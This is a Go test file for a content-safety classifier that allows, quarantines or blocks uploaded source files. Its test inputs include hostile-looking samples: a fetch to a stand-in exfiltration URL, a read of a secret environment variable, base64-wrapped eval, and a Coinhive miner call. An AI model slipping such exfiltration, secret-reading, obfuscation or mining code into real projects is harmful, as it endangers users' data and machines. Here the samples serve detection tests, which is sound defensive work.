package safety_test

import (
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"testing"

	"github.com/rs/zerolog"

	"capsule-server/services/capsule-api/internal/domain/safety"
)

// MockBlocklist is a func-field blocklist store.
type MockBlocklist struct {
	ContainsFunc func(ctx context.Context, hash string) (bool, error)
}

func (m *MockBlocklist) Contains(ctx context.Context, hash string) (bool, error) {
	if m.ContainsFunc != nil {
		return m.ContainsFunc(ctx, hash)
	}
	return false, nil
}

// MockScorer is a func-field external scorer.
type MockScorer struct {
	ScoreFunc func(ctx context.Context, path string, content []byte) (float64, error)
}

func (m *MockScorer) Score(ctx context.Context, path string, content []byte) (float64, error) {
	if m.ScoreFunc != nil {
		return m.ScoreFunc(ctx, path, content)
	}
	return 0, nil
}

func newClassifier(blocklist safety.Blocklist, scorer safety.Scorer, staticHashes ...string) *safety.Classifier {
	return safety.NewClassifier(safety.DefaultRuleset(), staticHashes, blocklist, scorer, zerolog.Nop())
}

func TestClassifyAllowsBenignContent(t *testing.T) {
	classifier := newClassifier(nil, nil)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "index.html", Content: []byte("<h1>hello world</h1>")},
	})
	if err != nil {
		t.Fatalf("classify failed: %v", err)
	}
	if verdict.Action != safety.ActionAllow {
		t.Fatalf("expected allow, got %s (%v)", verdict.Action, verdict.Reasons)
	}
	if !verdict.Safe {
		t.Fatalf("allow verdict must be safe")
	}
}

func TestClassifyQuarantinesRestrictedCapabilities(t *testing.T) {
	tests := []struct {
		name    string
		content string
	}{
		{"network call", `fetch("https://example.com/exfil")`},
		{"environment read", `const key = process.env.SECRET_KEY`},
		{"eval obfuscation", `eval(atob("ZG8gZXZpbA=="))`},
	}

	classifier := newClassifier(nil, nil)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
				{Path: "app.js", Content: []byte(tc.content)},
			})
			if err != nil {
				t.Fatalf("classify failed: %v", err)
			}
			if verdict.Action != safety.ActionQuarantine {
				t.Fatalf("expected quarantine, got %s", verdict.Action)
			}
			if verdict.Safe {
				t.Fatalf("quarantine verdict must not be safe")
			}
		})
	}
}

func TestClassifyBlocksMinerSignature(t *testing.T) {
	classifier := newClassifier(nil, nil)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "worker.js", Content: []byte(`importScripts("coinhive.min.js"); CoinHive.Anonymous("k");`)},
	})
	if err != nil {
		t.Fatalf("classify failed: %v", err)
	}
	if verdict.Action != safety.ActionBlock {
		t.Fatalf("expected block, got %s", verdict.Action)
	}
}

func TestClassifyBlocksStaticDenyListedHash(t *testing.T) {
	content := []byte("totally innocuous")
	sum := sha256.Sum256(content)
	hash := fmt.Sprintf("%x", sum[:])

	classifier := newClassifier(nil, nil, hash)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "a.js", Content: content},
	})
	if err != nil {
		t.Fatalf("classify failed: %v", err)
	}
	if verdict.Action != safety.ActionBlock {
		t.Fatalf("deny-listed hash must block, got %s", verdict.Action)
	}
}

func TestClassifyBlocksSharedBlocklistHit(t *testing.T) {
	blocklist := &MockBlocklist{ContainsFunc: func(ctx context.Context, hash string) (bool, error) {
		return true, nil
	}}
	classifier := newClassifier(blocklist, nil)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "a.js", Content: []byte("anything")},
	})
	if err != nil {
		t.Fatalf("classify failed: %v", err)
	}
	if verdict.Action != safety.ActionBlock {
		t.Fatalf("blocklist hit must block, got %s", verdict.Action)
	}
}

func TestClassifyFailsClosedOnBlocklistError(t *testing.T) {
	blocklist := &MockBlocklist{ContainsFunc: func(ctx context.Context, hash string) (bool, error) {
		return false, errors.New("redis down")
	}}
	classifier := newClassifier(blocklist, nil)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "a.js", Content: []byte("harmless")},
	})
	if err != nil {
		t.Fatalf("fail-closed must not surface an error: %v", err)
	}
	if verdict.Action != safety.ActionBlock {
		t.Fatalf("unreachable blocklist must fail closed, got %s", verdict.Action)
	}
}

func TestClassifyFailsClosedOnScorerError(t *testing.T) {
	scorer := &MockScorer{ScoreFunc: func(ctx context.Context, path string, content []byte) (float64, error) {
		return 0, context.DeadlineExceeded
	}}
	classifier := newClassifier(nil, scorer)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "a.js", Content: []byte("harmless")},
	})
	if err != nil {
		t.Fatalf("fail-closed must not surface an error: %v", err)
	}
	if verdict.Action != safety.ActionBlock {
		t.Fatalf("unreachable scorer must fail closed, got %s", verdict.Action)
	}
}

func TestScorerEscalatesAllowToQuarantine(t *testing.T) {
	scorer := &MockScorer{ScoreFunc: func(ctx context.Context, path string, content []byte) (float64, error) {
		return 0.6, nil
	}}
	classifier := newClassifier(nil, scorer)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "a.js", Content: []byte("benign text")},
	})
	if err != nil {
		t.Fatalf("classify failed: %v", err)
	}
	if verdict.Action != safety.ActionQuarantine {
		t.Fatalf("score 0.6 should quarantine, got %s", verdict.Action)
	}
}

func TestScorerBlocksHighScore(t *testing.T) {
	scorer := &MockScorer{ScoreFunc: func(ctx context.Context, path string, content []byte) (float64, error) {
		return 0.95, nil
	}}
	classifier := newClassifier(nil, scorer)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "a.js", Content: []byte("benign text")},
	})
	if err != nil {
		t.Fatalf("classify failed: %v", err)
	}
	if verdict.Action != safety.ActionBlock {
		t.Fatalf("score 0.95 should block, got %s", verdict.Action)
	}
}

func TestClassifyReportsWorstVerdictAcrossFiles(t *testing.T) {
	classifier := newClassifier(nil, nil)

	verdict, err := classifier.Classify(context.Background(), []safety.SourceFile{
		{Path: "safe.html", Content: []byte("<p>fine</p>")},
		{Path: "net.js", Content: []byte(`fetch("https://api.example.com")`)},
	})
	if err != nil {
		t.Fatalf("classify failed: %v", err)
	}
	if verdict.Action != safety.ActionQuarantine {
		t.Fatalf("expected quarantine from second file, got %s", verdict.Action)
	}
}
